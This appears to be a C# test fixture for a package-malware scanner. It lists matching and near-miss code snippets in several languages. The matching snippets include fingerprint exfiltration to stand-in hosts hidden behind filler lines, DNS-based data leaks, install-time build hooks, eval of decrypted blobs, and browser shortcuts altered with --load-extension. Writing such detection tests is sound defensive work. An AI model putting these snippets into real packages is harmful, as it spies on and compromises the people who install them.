namespace Symbiont.Scanning.Tests.Capabilities;

/// <summary>Packages that report whose machine they are on, run what they decrypt and change how browsers start, and honest ones that look like them.</summary>
internal static class ReportCases
{
    public static readonly (string Rule, string File, string Text)[] Hits =
    [
        ("silent-transfer", "index.js", "const { hostname, userInfo, homedir } = require('os');\nconst axios = require('axios');\nconst facts = { h: hostname(), u: userInfo().username, d: homedir() };\n// padding\nlet x = 1;\n// padding\nlet x = 1;\n// padding\nlet x = 1;\n// padding\nlet x = 1;\n// padding\nlet x = 1;\n// padding\nlet x = 1;\n// padding\nlet x = 1;\n// padding\nlet x = 1;\n// padding\nlet x = 1;\n// padding\nlet x = 1;\n// padding\nlet x = 1;\n// padding\nlet x = 1;\n// padding\nlet x = 1;\n// padding\nlet x = 1;\n// padding\nlet x = 1;\nconst letters = Buffer.from(JSON.stringify(facts)).toString('hex');\naxios.get('https://stat.example.net/i/' + letters).catch(() => {});\n"),
        ("silent-transfer", "core.py", "import socket, getpass, os, base64, urllib.request\nhost = socket.getfqdn()\nuser = getpass.getuser()\nplace = os.getcwd()\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\na = 1\ntext = base64.b64encode(f'{host}|{user}|{place}'.encode()).decode()\nurllib.request.urlopen('http://in.example.net/?q=' + text)\n"),
        ("silent-transfer", "tidy.rb", "require 'socket'\nrequire 'etc'\nhost = Socket.gethostname\nuser = Etc.getlogin\nhome = Dir.home\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\nx = 1\npacked = Base64.strict_encode64([host, user, home].join(','))\nNet::HTTP.get(URI(\"https://in.example.net/#{packed}\"))\n"),
        ("silent-transfer", "init.go", "package tidy\nfunc init() {\n\th, _ := os.Hostname()\n\tu, _ := user.Current()\n\td, _ := os.Getwd()\n\tq := hex.EncodeToString([]byte(h + u.Username + d))\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\ta := 1\n\thttp.Get(\"https://in.example.net/\" + q)\n}\n"),
        ("silent-transfer", "build.rs", "fn main() {\n    let h = hostname::get().unwrap();\n    let u = whoami::username();\n    let d = std::env::current_dir().unwrap();\n    let q = hex::encode(format!(\"{:?}{}{:?}\", h, u, d));\n    let _ = ureq::get(&format!(\"https://in.example.net/{}\", q)).call();\n}\n"),
        ("silent-transfer", "Start.java", "class Start {\n  static {\n    String h = InetAddress.getLocalHost().getHostName();\n    String u = System.getProperty(\"user.name\");\n    String d = System.getProperty(\"user.home\");\n    String q = Base64.getEncoder().encodeToString((h + u + d).getBytes());\n    new URL(\"https://in.example.net/\" + q).openStream();\n  }\n}\n"),

        ("data-in-names", "core.py", "import os, platform\nname = platform.node().encode().hex()\nos.system('nslookup %s.d.example.net' % name)\n"),
        ("data-in-names", "index.js", "const os = require('os');\nconst dns = require('dns');\nconst take = f => { try { return f(); } catch { return ''; } };\nconst data = Buffer.from(take(os.hostname) + take(os.homedir)).toString('hex');\ndns.resolve4(data + '.d.example.net', () => {});\n"),
        ("data-in-names", "tidy.rb", "name = Socket.gethostname.unpack1('H*')\nsystem(\"dig +short #{name}.d.example.net\")\n"),
        ("data-in-names", "tidy.php", "<?php\n$name = bin2hex(gethostname() . get_current_user());\nexec(\"ping -c 1 $name.d.example.net\");\n"),
        ("data-in-names", "core.py", "import subprocess, getpass, base64\nname = base64.b32encode(getpass.getuser().encode()).decode().strip('=')\nsubprocess.run(f'ping -c 1 {name}.d.example.net', shell=True)\n"),

        ("silent-transfer", "extconf.rb", "require 'mkmf'\nsystem('nslookup built.example.net > /dev/null')\ncreate_makefile('tidy')\n"),
        ("silent-transfer", "build.rs", "use std::process::Command;\nfn main() {\n    let _ = Command::new(\"dig\").arg(\"built.example.net\").output();\n}\n"),
        ("silent-transfer", "CMakeLists.txt", "project(tidy)\nexecute_process(COMMAND ping -c 1 built.example.net OUTPUT_QUIET)\n"),
        ("silent-transfer", "setup.py", "import os, platform\nfrom setuptools import setup\ndef tell():\n    who = os.popen('id -un').read().strip()\n    os.popen(f'curl -s https://in.example.net/{platform.system()}/{who} > /dev/null')\ntell()\nsetup(name='tidy')\n"),
        ("silent-transfer", "setup.py", "import subprocess\nfrom setuptools import setup\nsetup(name='tidy')\nsubprocess.run(['nslookup', 'built.example.net'])\n"),
        ("silent-transfer", "build.gradle", "def who = 'whoami'.execute().text.trim()\n\"curl -s https://in.example.net/${who}\".execute()\n"),

        ("decoded-code", "a.js", "const CryptoJS = require('crypto-js');\neval(CryptoJS.AES.decrypt(blob, 'key').toString(CryptoJS.enc.Utf8));\n"),
        ("decoded-code", "a.rb", "c = OpenSSL::Cipher.new('aes-128-cbc').decrypt\nc.key = 'k' * 16\neval(c.update(BLOB) + c.final)\n"),
        ("decoded-code", "a.ps1", "$aes = [System.Security.Cryptography.Aes]::Create()\n$out = $aes.CreateDecryptor().TransformFinalBlock($blob, 0, $blob.Length)\niex ([Text.Encoding]::UTF8.GetString($out))\n"),
        ("decoded-code", "a.lua", "local aes = require 'aes'\nload(aes.decrypt(blob, 'key'))()\n"),
        ("decoded-code", "a.pl", "use Crypt::CBC;\nmy $c = Crypt::CBC->new(-key => 'k');\neval $c->decrypt($blob);\n"),

        ("planted-start", "a.ps1", "$s = (New-Object -ComObject WScript.Shell).CreateShortcut($lnk)\n$s.Arguments = \"--load-extension=$env:APPDATA\\Helper\"\n$s.Save()\n"),
        ("planted-start", "a.vbs", "Set s = sh.CreateShortcut(path)\ns.Arguments = \"--load-extension=\" & folder\ns.Save\n"),
        ("planted-start", "a.sh", "sed -i 's|^Exec=.*chrome|& --load-extension=/opt/h|' ~/.local/share/applications/google-chrome.desktop\n"),
        ("planted-start", "A.cs", "var s = (IWshShortcut)shell.CreateShortcut(lnk);\ns.Arguments = $\"--load-extension={dir}\";\ns.Save();\n"),
        ("planted-start", "a.js", "const shell = new ActiveXObject('WScript.Shell');\nconst s = shell.CreateShortcut(lnk);\ns.Arguments = '--disable-extensions-except=' + dir + ' --load-extension=' + dir;\ns.Save();\n"),
    ];

    public static readonly (string Rule, string File, string Text)[] NearMisses =
    [
        ("silent-transfer", "stats.py", "import platform, getpass, os, base64\nlog.info('%s %s %s', platform.node(), getpass.getuser(), os.getcwd())\nkey = base64.b64encode(digest).decode()\n"),
        ("silent-transfer", "tidy.js", "const id = Buffer.from(os.hostname()).toString('hex');\nconst at = process.cwd();\nawait fetch('https://stats.example.org/in?id=' + id);\n"),
        ("silent-transfer", "setup.py", "import subprocess\nfrom setuptools import setup\nif subprocess.call(['ping', '-c', '1', 'pypi.org']) != 0:\n    print('no network')\nsetup(name='tidy')\n"),
        ("silent-transfer", "build.gradle", "repositories {\n  maven {\n    url = \"https://maven.example.org/${owner}\"\n    credentials { username = System.getenv('USERNAME') }\n  }\n}\n"),
        ("silent-transfer", "conanfile.py", "def source(self):\n    self.run(f'curl -L https://tidy.example.org/{self.version}.tar.gz -o tidy.tar.gz')\n"),
        ("silent-transfer", "check.py", "def is_up():\n    return os.system('ping -c 1 tidy.example.org') == 0\n"),
        ("data-in-names", "ask.py", "import base64, requests\nquestion = base64.urlsafe_b64encode(message).decode()\nrequests.get('https://dns.example.org/dns-query?dns=' + question)\n"),
        ("data-in-names", "update.py", "import socket, os\nname = socket.gethostname()\nos.system(f'nslookup {name}.home.example.org')\n"),
        ("decoded-code", "vault.py", "password = box.decrypt(stored).decode()\nconnect('db.example.org', password=password)\n"),
        ("decoded-code", "vault.rb", "secret = cipher.update(stored) + cipher.final\nclient.login(secret)\n"),
        ("planted-start", "drive.js", "const browser = await puppeteer.launch({ headless: false, args: ['--load-extension=' + folder] });\n"),
        ("planted-start", "link.ps1", "$s = (New-Object -ComObject WScript.Shell).CreateShortcut($to)\n$s.TargetPath = $program\n$s.Arguments = '--profile work'\n$s.Save()\n"),
    ];
}
